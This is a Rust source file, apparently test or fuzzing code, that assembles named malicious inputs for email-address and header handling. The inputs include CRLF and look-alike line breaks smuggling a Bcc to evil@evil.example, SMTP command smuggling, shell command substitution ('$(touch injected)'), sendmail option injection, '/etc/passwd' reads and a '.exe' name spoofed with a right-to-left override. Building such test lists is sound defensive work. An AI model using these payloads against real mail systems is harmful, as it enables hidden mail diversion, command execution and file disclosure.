//! What is handed over: line ends and look-alikes of them, octets that are no text, what other programs expand, and
//! what breaks out of an address.

/// Each with its name. No payload holds NUL, which argv cannot carry.
pub fn payloads() -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    let mut add = |name: &str, octets: &[u8]| all.push((name.to_owned(), octets.to_vec()));
    for (name, end) in [
        ("CRLF", "\r\n"),
        ("LF", "\n"),
        ("CR", "\r"),
        ("VT", "\u{b}"),
        ("FF", "\u{c}"),
        ("NEL", "\u{85}"),
        ("LS", "\u{2028}"),
        ("PS", "\u{2029}"),
        ("CRLF and a blank", "\r\n "),
        ("CRLF twice", "\r\n\r\n"),
    ] {
        add(name, format!("a{end}Bcc: evil@evil.example").as_bytes());
    }
    add("LF at the end", b"a@b.example\n");
    add("LF at the beginning", b"\na@b.example");
    add("an overlong LF", b"a\xc0\x8aBcc: evil@evil.example");
    add("no UTF-8", b"a\xff\xfe");
    add("a surrogate", b"a\xed\xa0\x80");
    for text in [
        "=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=",
        "a%0d%0aBcc: evil@evil.example",
        "\"a@evil.example\" @ok.example",
        "\"a\r\nBcc: evil@evil.example\" <a@b.example>",
        "@a.example,@b.example:c@d.example",
        "a%b@c.example",
        "-oQ/tmp",
        "--sandbox",
        "|touch injected",
        "/etc/passwd",
        ":include:/etc/passwd",
        "$(touch injected)",
        "`touch injected`",
        "\u{1b}[2J\u{1b}]0;x\u{7}",
        "\u{202e}gpj.exe",
        "a@b.example> NOTIFY=NEVER",
        "a@b.example>\r\nRCPT TO:<evil@evil.example",
        "<a@b.example> SIZE=1",
        "a@b.example\r\n.\r\nMAIL FROM:<evil@evil.example>",
        "x; name=\"y\"; z*0=\"",
        "\\\"; filename=\"evil.exe",
    ] {
        add(text, text.as_bytes());
    }
    for length in [998, 999, 100_000] {
        add(&format!("{length} octets"), "x".repeat(length).as_bytes());
    }
    add("deep comments", "(".repeat(100_000).as_bytes());
    add("many semicolons", ";".repeat(100_000).as_bytes());
    all
}
